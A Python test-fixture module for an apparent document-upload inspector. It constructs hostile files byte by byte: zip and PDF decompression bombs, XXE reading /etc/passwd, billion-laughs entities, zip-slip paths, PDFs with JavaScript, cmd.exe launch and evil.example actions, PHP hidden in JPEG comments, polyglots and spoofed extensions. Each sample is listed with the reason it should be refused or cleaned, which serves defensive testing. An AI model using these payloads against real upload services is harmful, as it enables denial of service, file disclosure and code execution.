"""Files nobody should keep, made here byte by byte: none of them lies in the repository."""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

from apps.applications.rules.inspection import EICAR
from tests.applications.test_inspection import a_docx, a_pdf, a_photo

MEGABYTE = 1024 * 1024
TYPES = "[Content_Types].xml"


def word(**parts: bytes | str) -> bytes:
    """A DOCX with these parts; `__` stands for `/`, `_dot_` for `.`."""
    return zipped({name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()})


def zipped(parts: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", method) as archive:
        archive.writestr(TYPES, "<Types/>")
        for name, content in parts.items():
            archive.writestr(name, content)
        if "word/document.xml" not in parts:
            archive.writestr("word/document.xml", "<w/>")
    return kept.getvalue()


def lying_zip() -> bytes:
    """The directory promises 10 bytes where megabytes come out."""
    content = zipped({"word/big.xml": b"<a>" + b" " * MEGABYTE + b"</a>"})
    return content.replace(struct.pack("<I", MEGABYTE + 7), struct.pack("<I", 10))


def overlapping_zip() -> bytes:
    """Many entries that share one compressed kernel, as in the zip bomb of 2019."""
    kernel = zipped({"word/0.bin2": b"\0" * 500_000})
    with zipfile.ZipFile(io.BytesIO(kernel)) as archive:
        entry = archive.getinfo("word/0.bin2")
        start = archive.start_dir
    directory = kernel[start:-22]
    name_at = directory.index(b"word/0.bin2")
    one = directory[name_at - 46 : name_at + len("word/0.bin2")]
    copies = [one.replace(b"word/0", b"word/%d" % number) for number in range(1, 10)]
    grown = directory + b"".join(copies)
    count = directory.count(b"PK\x01\x02") + len(copies)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(grown), start, 0)
    assert entry.file_size == 500_000
    return kernel[:start] + grown + end


def locked_zip() -> bytes:
    content = bytearray(zipped({}))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + at] |= 1
    return bytes(content)


def saved(document: pikepdf.Pdf, **options: object) -> bytes:
    kept = io.BytesIO()
    document.save(kept, **options)
    return kept.getvalue()


def pdf_with(**page: object) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    for name, value in page.items():
        document.pages[0].obj[f"/{name}"] = value
    return saved(document)


def action(**parts: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(**parts)


def pdf_with_attachment(content: bytes) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.attachments["a.txt"] = pikepdf.AttachedFileSpec(document, content)
    return saved(document)


def pdf_with_hidden_script() -> bytes:
    """The action is a part of the page itself, three levels deep, and its name is spelt in hexadecimal."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/J#61vaScript/J#53(app.alert\\(1\\))>>>>>>"
    return plain_pdf(page)


def plain_pdf(page: bytes) -> bytes:
    parts = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page]
    out, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, start=1):
        places.append(len(out))
        out += b"%d 0 obj" % number + part + b"endobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 4\n0000000000 65535 f \n"
    return out + head + table + b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % len(out)


def pdf_of_a_million_objects(*, honest: bool) -> bytes:
    """A table of objects in a stream of zeros: 7 MB of table from 7 kB. Dishonest ones name no size."""
    rows = 1_000_000
    table = zlib.compress(b"\0" * 7 * rows * (1 if honest else 5), 9)
    size = rows if honest else 9
    head = b"<</Type/XRef/Size %d/Index[0 %d]/W[1 4 2]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % (
        size,
        rows,
        len(table),
    )
    body = (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    )
    stream = b"9 0 obj" + head + b"stream\n" + table + b"\nendstream endobj\n"
    return body + stream + b"startxref\n%d\n%%%%EOF" % len(body)


def pdf_with_swollen_objects() -> bytes:
    """Objects packed into a stream that unpacks to 64 MB."""
    packed = zlib.compress(b" " * 64 * MEGABYTE, 9)
    head = b"9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    return a_pdf().replace(b"1 0 obj", head + packed + b"\nendstream endobj\n1 0 obj", 1)


def pdf_of_many_pages() -> bytes:
    document = pikepdf.new()
    for _page in range(301):
        document.add_blank_page()
    return saved(document)


def locked_pdf() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    return saved(document, encryption=pikepdf.Encryption(owner="a", user="b"))


def pixel_flood(kind: str = "PNG") -> bytes:
    kept = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(kept, kind)
    return kept.getvalue()


def png_header_of(width: int, height: int) -> bytes:
    """A picture that only claims its size."""
    head = b"IHDR" + struct.pack(">2I5B", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + head
        + struct.pack(">I", zlib.crc32(head))
        + b"\0\0\0\0IEND"
    )


def animation(frames: int) -> bytes:
    kept = io.BytesIO()
    first, *others = [Image.new("L", (2, 2), number % 255) for number in range(frames)]
    first.save(kept, "PNG", save_all=True, append_images=others)
    return kept.getvalue()


def odd_photo(kind: str, mode: str, **options: object) -> bytes:
    kept = io.BytesIO()
    Image.new(mode, (60, 40)).save(kept, kind, **options)
    return kept.getvalue()


JUNK_PROFILE = b"<script>alert(1)</script>" * 2000
SCRIPT = b"<script>alert(1)</script>"
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
XXE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12))
    + b"]><w>&m;</w>"
)
EXTERNAL = (
    '<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" '
    'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
JS = action(S=pikepdf.Name("/JavaScript"), JS=pikepdf.String("app.alert(1)"))
LAUNCH = action(S=pikepdf.Name("/Launch"), F=pikepdf.String("cmd.exe"))
OPENS_A_SITE = action(S=pikepdf.Name("/URI"), URI=pikepdf.String("http://evil.example/"))

#: (row, file name, content, the reason it is refused for)
REFUSED = [
    ("EICAR", "a.pdf", EICAR, "harmful"),
    ("EICAR behind a PDF", "a.pdf", a_pdf() + EICAR, "harmful"),
    ("EICAR packed in a docx", "a.docx", word(word__a_dot_txt=b"x" * 65_530 + EICAR), "harmful"),
    ("EICAR attached to a PDF", "a.pdf", pdf_with_attachment(EICAR), "active"),
    ("docx bomb", "a.docx", zipped({"word/big.xml": b"\0" * 120 * MEGABYTE}), "large"),
    (
        "docx bomb of many parts",
        "a.docx",
        zipped({f"word/{n}.txt": b"\0" * 999_000 for n in range(60)}),
        "large",
    ),
    ("docx of many entries", "a.docx", zipped({f"word/{n}.txt": b"" for n in range(1001)}), "large"),
    ("nested bomb", "a.docx", zipped({"word/embeddings/b.zip": zipped({"x": b"\0" * MEGABYTE})}), "active"),
    ("docx whose directory lies", "a.docx", lying_zip(), "content"),
    ("overlapping entries", "a.docx", overlapping_zip(), "large"),
    ("docx with a password", "a.docx", locked_zip(), "locked"),
    ("zip slip", "a.docx", zipped({"word/../../../etc/passwd": b"x"}), "active"),
    ("xlsx as docx", "a.docx", a_docx().replace(b"word/document", b"xl/workbookxx"), "content"),
    ("xlsx", "a.xlsx", a_docx(), "type"),
    ("zip", "a.zip", zipped({}), "type"),
    ("gz as docx", "a.docx", zlib.compress(b"\0" * 99_999, wbits=31), "content"),
    ("docm", "a.docm", a_docx(), "type"),
    ("docm called docx", "a.docx", word(word__vbaProject_dot_bin=b"x"), "active"),
    (
        "docx that says it has macros",
        "a.docx",
        zipped({"word/b.xml": '<T ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'}),
        "active",
    ),
    ("XXE in a docx", "a.docx", word(word__document_dot_xml=XXE), "active"),
    ("billion laughs in a docx", "a.docx", word(word__document_dot_xml=LAUGHS), "active"),
    ("template from elsewhere", "a.docx", word(word___rels__settings_dot_xml_dot_rels=EXTERNAL), "active"),
    ("broken XML in a docx", "a.docx", word(word__document_dot_xml=b"<w>"), "content"),
    ("PDF of a million objects", "a.pdf", pdf_of_a_million_objects(honest=True), "large"),
    ("PDF that hides a million objects", "a.pdf", pdf_of_a_million_objects(honest=False), "large"),
    ("PDF with packed objects", "a.pdf", pdf_with_swollen_objects(), "large"),
    ("PDF of many pages", "a.pdf", pdf_of_many_pages(), "large"),
    ("PDF without pages", "a.pdf", saved(pikepdf.new()), "content"),
    ("PDF with a script", "a.pdf", a_pdf(OpenAction=JS), "active"),
    ("PDF that starts a program", "a.pdf", a_pdf(OpenAction=LAUNCH), "active"),
    ("PDF that opens a site by itself", "a.pdf", a_pdf(OpenAction=OPENS_A_SITE), "active"),
    ("PDF with a script on a page", "a.pdf", pdf_with(AA=action(O=JS)), "active"),
    ("PDF with a script spelt in numbers", "a.pdf", pdf_with_hidden_script(), "active"),
    ("PDF with a form of programs", "a.pdf", a_pdf(AcroForm=action(XFA=pikepdf.String("x"))), "active"),
    ("PDF with a password", "a.pdf", locked_pdf(), "locked"),
    ("HTML called PDF", "a.pdf", HTML + a_pdf(), "content"),
    ("truncated PDF", "a.pdf", a_pdf()[:200], "content"),
    ("PDF of junk", "a.pdf", b"%PDF-1.7\n" + b"\xff" * 5000, "content"),
    ("nothing", "a.pdf", b"", "empty"),
    ("10 MB and a byte", "a.pdf", b"%PDF-" + b"x" * (10 * MEGABYTE - 4), "large"),
    ("SVG", "a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", "type"),
    ("SVG called PNG", "a.png", b"<svg onload='alert(1)'/>", "content"),
    ("HTML", "a.html", HTML, "type"),
    ("XML with an entity", "a.xml", XXE, "type"),
    ("link of Windows", "a.lnk", b"L\0\0\0", "type"),
    ("link to a site", "a.url", b"[InternetShortcut]\nURL=http://evil.example", "type"),
    ("program", "a.exe", b"MZ", "type"),
    ("GIF that is a JAR", "a.jpg", b"GIF89a" + zipped({}), "content"),
    ("JPEG of PHAR alone", "a.jpg", b"\xff\xd8\xff\xe0<?php __HALT_COMPILER(); ?>", "content"),
    ("truncated JPEG", "a.jpg", a_photo(size=(400, 300))[:-300], "content"),
    ("photo called PDF", "a.pdf", a_photo(), "content"),
    ("PDF called photo", "a.jpg", a_pdf(), "content"),
    ("PNG called JPEG", "a.jpg", a_photo("PNG"), "content"),
    ("pixel flood", "a.png", pixel_flood(), "content"),
    ("claimed pixel flood", "a.png", png_header_of(60_000, 60_000), "content"),
    ("large PNG", "a.png", png_header_of(5_000, 5_000), "large"),
    ("animation", "a.png", animation(500), "large"),
    ("HEIC", "IMG_0001.HEIC", b"\0\0\0\x18ftypheic", "heic"),
    ("double extension", "a.pdf.exe", a_pdf(), "type"),
    ("double extension, the other way", "a.exe.pdf", a_pdf(), "type"),
    ("double extension of the web", "a.html.jpg", a_photo(), "type"),
    ("trailing dot", "a.pdf.", a_pdf(), "type"),
    ("trailing space", "a.pdf ", a_pdf(), "type"),
    ("no extension", "passport", a_pdf(), "type"),
    ("NUL before another extension", "a.pdf\0.exe", a_pdf(), "type"),
    ("turned around by a direction mark", "cod\u202egnp.exe", a_photo("PNG"), "type"),
]

#: (row, file name, content, what must not be left of it)
CLEANED = [
    ("PDF with HTML behind it", "a.pdf", a_pdf() + HTML, b"<script"),
    ("PDF that is a ZIP too", "a.pdf", a_pdf() + zipped({"x": b"x"}), b"PK\x03\x04"),
    (
        "PDF with HTML in a comment",
        "a.pdf",
        a_pdf().replace(b"\n1 0 obj", b"\n%" + HTML + b"\n1 0 obj", 1),
        b"<script",
    ),
    ("JPEG with a script behind it", "a.jpg", a_photo() + SCRIPT, SCRIPT),
    (
        "JPEG with PHP in its comment",
        "a.jpg",
        odd_photo("JPEG", "RGB", comment=b"<?php system(1); ?>"),
        b"<?php",
    ),
    ("JPEG that is a ZIP too", "a.jpg", a_photo() + zipped({}), b"PK\x03\x04"),
    ("CMYK JPEG", "a.jpg", odd_photo("JPEG", "CMYK"), b"Adobe"),
    ("JPEG with a profile of junk", "a.jpg", odd_photo("JPEG", "RGB", icc_profile=JUNK_PROFILE), b"<script"),
    ("PNG with a profile of junk", "a.png", odd_photo("PNG", "RGB", icc_profile=JUNK_PROFILE), b"iCCP"),
]
